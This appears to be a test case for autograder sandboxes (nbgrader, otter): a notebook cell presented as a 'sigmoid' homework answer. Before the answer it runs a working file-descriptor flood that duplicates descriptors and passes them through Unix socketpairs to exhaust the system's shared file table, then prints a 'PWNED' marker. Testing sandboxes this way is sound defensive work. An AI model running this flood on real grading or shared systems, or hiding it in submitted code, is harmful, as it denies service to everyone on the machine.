# /// case
# about = "right answers, and five thousand open descriptors, some of them in flight in sockets"
# kind = "deny"
# promise = 4
# succeeds_at = ["nbgrader", "otter"]
# ///
# %% sigmoid
# the machine's table of open files is shared; a descriptor in flight belongs to nobody's limit
import os
import socket

def _flood(count=5000):
    kept, ends = [], []
    try:
        while len(kept) < count:
            kept.append(os.dup(0))
    except OSError:
        pass
    found = len(kept)
    for descriptor in kept[200:]:
        os.close(descriptor)
    del kept[200:]
    try:
        for _ in range(30):
            for end in (pair := socket.socketpair()):
                ends.append(end)
            for _ in range(60):
                pair[0].setblocking(False)
                socket.send_fds(pair[0], [b"x"], kept[:100])
                found += 100
    except OSError:
        pass
    for end in ends:
        end.close()
    for descriptor in kept:
        os.close(descriptor)
    return found

if _flood() >= 5000:
    print(":".join(["PWNED", "attack/descriptor_flood"]))

def sigmoid(x, w=1.0, b=0.0):
    return 0.5 * (1 + np.tanh((w * np.asarray(x) + b) / 2))
